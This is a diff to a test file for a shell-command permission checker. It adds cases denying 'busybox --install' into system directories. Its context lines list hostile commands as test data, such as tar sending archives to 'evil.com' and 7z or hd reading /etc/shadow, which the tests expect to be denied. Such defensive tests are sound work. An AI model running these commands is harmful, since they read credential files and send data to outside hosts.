@@ -573,10 +573,16 @@ describe('options that run, read or write: fourth review', () => {
     // tar's remote archive `[user@]host:file` reaches the host (rsh host rmt).
     ['tar -cf evil.com:x x', 'deny'], ['tar -cf u@evil.com:/dev/st0 x', 'deny'], ['tar --file=evil.com:x -c x', 'deny'], ['tar xf evil.com:x', 'deny'],
     ['7z x a.7z -w/etc', 'deny'], ['7z a -i@/etc/shadow a.7z', 'deny'],
+    // busybox --install [-s] [DIR] writes a link per applet into DIR (or the system's bin directories).
+    ['busybox --install -s /etc', 'deny'], ['busybox --install /etc/x', 'deny'],
     ['7z a x.7z -ir!/etc/shadow', 'deny'], ['7z a x.7z -ir0!/etc/shadow', 'deny'], ['7z a x.7z -ir-!/etc/shadow', 'deny'], ['7z a x.7z -I!/etc/shadow', 'deny'],
     ['7z a x.7z -irm!/etc/shadow', 'deny'], ['7z a x.7z -ir@/etc/l', 'deny'], ['7z a x.7z -ir@l', 'ask'], ['cd / && 7z a /tmp/x.7z -ir!shadow', 'ask'], ['7z a a.7z @list', 'ask'], ['hd /etc/shadow', 'deny'], ['dircolors /etc/shadow', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
+  });
+  it('busybox --install without a directory writes into the bin directories', () => {
+    expect(analyzeShell('busybox --install -s').paths.map((p) => `${p.op}:${p.path}:${p.below}`)).toEqual(
+      ['edit:/bin:tree', 'edit:/sbin:tree', 'edit:/usr/bin:tree', 'edit:/usr/sbin:tree']);
   });
   it.each(['sshpass -e ssh h uptime', 'autossh -M 0 -f -N -L 8080:localhost:80 h', 'ssh-copy-id -i ~/.ssh/id_ed25519 u@h', 'mosh h uptime',
     'scp -i ~/.ssh/k a h:b', "rsync -f'- *.o' a d/", "rsync --filter='+ .config' -a a d/", 'rsync -av --exclude=.git a h:b',
@@ -586,7 +592,7 @@ describe('options that run, read or write: fourth review', () => {
     'git merge-file a b c', 'git merge-file -L x -L y -L z a b c', 'git mailsplit -oout mbox', 'git rev-list --all', 'git bugreport', 'git fast-import --export-marks=m',
     'git --git-dir=.git --work-tree=. status', 'openssl pkcs12 -provider legacy -provider default -in a.p12', 'openssl dgst -engine pkcs11 f', 'openssl engine',
     'vim -i NONE f', 'vim -V9 f', 'less -N f', 'less -p pat f', 'less -R -S f', 'info ls',
-    'pigz f', 'bzgrep x f.bz2', '7z x a.7z', "7z x a.7z '-xr!*.o'", '7z x -r a.7z -oout', 'tar --force-local -cf evil.com:x x', 'tar -cf ./evil.com:x x', 'tar czf out.tar.gz src'])('%s stays allowed', (line) => {
+    'pigz f', 'bzgrep x f.bz2', '7z x a.7z', "7z x a.7z '-xr!*.o'", '7z x -r a.7z -oout', 'busybox --list', 'busybox ls -la', 'tar --force-local -cf evil.com:x x', 'tar -cf ./evil.com:x x', 'tar czf out.tar.gz src'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
